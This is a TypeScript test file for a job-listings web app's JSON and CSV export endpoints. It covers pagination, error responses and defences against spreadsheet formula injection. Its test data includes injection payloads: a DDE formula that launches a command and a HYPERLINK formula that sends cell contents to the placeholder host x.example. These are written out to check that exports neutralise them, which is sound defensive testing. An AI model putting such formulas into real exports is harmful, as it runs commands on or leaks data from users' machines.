import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { jobId, orgId, sourceId } from "../../../../src/core/ids.ts";
import { ask, BASE } from "../../app-under-test.ts";
import { readCsv } from "../../../read-csv.ts";
import { catalogue, seedBoards } from "../../seed.ts";

/** What spreadsheets run when a cell begins with it, and what breaks a row. */
const formulas = [
  `=cmd|'/c calc'!A0`,
  `=HYPERLINK("https://x.example/?"&A1,"open")`,
  "+1+1",
  "-2+3",
  "@SUM(1;2)",
  "\t=1+1",
  " =1+1",
  "\n=1+1",
  "＝1+1",
  `"quoted", and =1`,
  "two\nlines, one cell",
  "'plain",
];
const JOB = jobId("lever", "spotify", "spotify-0");
const SOURCE = sourceId("lever", "spotify");

beforeAll(async () => {
  const jobs = formulas.map((title, index) => ({ key: `f-${index}`, title, facts: { department: title } }));
  await seedBoards(env.DB, [
    ...catalogue(),
    { provider: "lever", board: "formulas", slug: "formulas", name: "=Formulas()", jobs },
  ]);
});

const tables: [address: string, call: string][] = [
  ["/companies", "orgs?limit=100"],
  ["/companies?q=spot", "orgs?q=spot&limit=100"],
  ["/companies?letter=a&limit=1", "orgs?letter=a&limit=1"],
  [`/jobs/${JOB}/events`, `jobs/${JOB}/events?limit=100`],
  ["/sources", "sources?limit=100"],
  ["/sources?provider=lever", "sources?provider=lever&limit=100"],
  [`/sources/${SOURCE}`, `sources/${SOURCE}/crawls?limit=100`],
  ["/coverage", "providers"],
  ["/browse/department", "jobs/facets?field=department&limit=1000"],
];

const formOf = (address: string, format: string): string => address.replace(/(?=\?|$)/, `.${format}`);

/** Lists that are a feed as JSON. */
const followed: typeof tables = [
  ["/events", "events/search?limit=100"],
  ["/events?event_types=job.closed&limit=3", "events/search?event_types=job.closed&limit=3"],
  ["/events?q=posting&country=us", "events/search?q=posting&country=us&limit=100"],
];

describe.each(tables)("%s", (address, call) => {
  it("as JSON is the API's answer", async () => {
    const response = await ask(formOf(address, "json"));
    expect([response.status, response.headers.get("Content-Type")]).toEqual([200, "application/json"]);
    expect(response.headers.get("Cache-Control")).toContain("max-age=30");
    expect(await response.json()).toEqual(await (await ask(`${BASE}/${call}`)).json());
  });
});

describe.each([...tables, ...followed])("%s", (address, call) => {
  it("as CSV has a row for each and a cell for every field", async () => {
    const response = await ask(formOf(address, "csv"));
    expect([response.status, response.headers.get("Content-Type")]).toEqual([
      200,
      "text/csv; charset=utf-8; header=present",
    ]);
    const [names = [], ...rows] = readCsv(await response.text());
    const { data } = await (await ask(`${BASE}/${call}`)).json<{ data: Record<string, unknown>[] }>();
    expect(rows).toHaveLength(data.length);
    expect(rows.length).toBeGreaterThan(0);
    for (const [index, item] of data.entries()) {
      for (const [name, value] of Object.entries(item)) {
        const cell = rows[index]?.[names.indexOf(name)] ?? "no such column";
        const text = typeof value === "string" ? value : value === null ? "" : JSON.stringify(value);
        expect(cell === text || cell === `'${text}`, `${name}: ${cell}`).toBe(true);
      }
    }
  });
});

it("gives every field of the browse page as one table", async () => {
  const [names, ...rows] = readCsv(await (await ask("/browse.csv")).text());
  expect(names).toEqual(["field", "value", "count"]);
  expect(new Set(rows.map(([field]) => field))).toEqual(
    new Set(["provider", "country", "region", "city", "department", "workplace_type", "employment_type"]),
  );
  const { facets } = await (await ask("/browse.json")).json<{ facets: Record<string, unknown[]> }>();
  expect(rows).toHaveLength(Object.values(facets).flat().length);
});

it.each(["/jobs.csv?org_ids=" + orgId("formulas"), "/companies/formulas.csv"])(
  "%s runs nothing in a spreadsheet and keeps the texts",
  async (address) => {
    const [names = [], ...rows] = readCsv(await (await ask(address)).text());
    const titles = rows.map((row) => row[names.indexOf("title")] ?? "").toReversed();
    expect(titles).toHaveLength(formulas.length);
    for (const [index, title] of titles.entries()) {
      expect(title).not.toMatch(/^\s*[=+\-@＝]/);
      expect(title.replace(/^'/, "")).toBe((formulas[index] ?? "").replace(/^'/, ""));
    }
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+@＝]/);
  },
);

it("names its next page in the Link header, to the end", async () => {
  const seen: string[] = [];
  let address: string | null = "/browse/provider/lever.csv?limit=30";
  while (address !== null) {
    const response: Response = await ask(address);
    const [names = [], ...rows] = readCsv(await response.text());
    seen.push(...rows.map((row) => row[names.indexOf("job_id")] ?? ""));
    const next = /^<([^>]+)>; rel="next"$/.exec(response.headers.get("Link") ?? "")?.[1];
    address = next === undefined ? null : next.replace("https://jobledger.example", "");
  }
  expect(seen).toHaveLength(54 + 7 + formulas.length);
  expect(new Set(seen).size).toBe(seen.length);
});

it.each([
  ["/companies.json?letter=nonsense", 400],
  ["/companies.csv?cursor=nonsense", 400],
  ["/browse/nothing.csv", 404],
  ["/sources/nonsense.json", 400],
  [`/sources/${orgId("nobody")}.csv`, 404],
  [`/jobs/${"0".repeat(40)}/events.csv`, 404],
  ["/status.csv", 404],
])("%s is a problem", async (address, status) => {
  const response = await ask(address);
  expect([response.status, response.headers.get("Content-Type")]).toEqual([status, "application/problem+json"]);
  expect(await response.json()).toMatchObject({ status, instance: address.split("?")[0] });
});
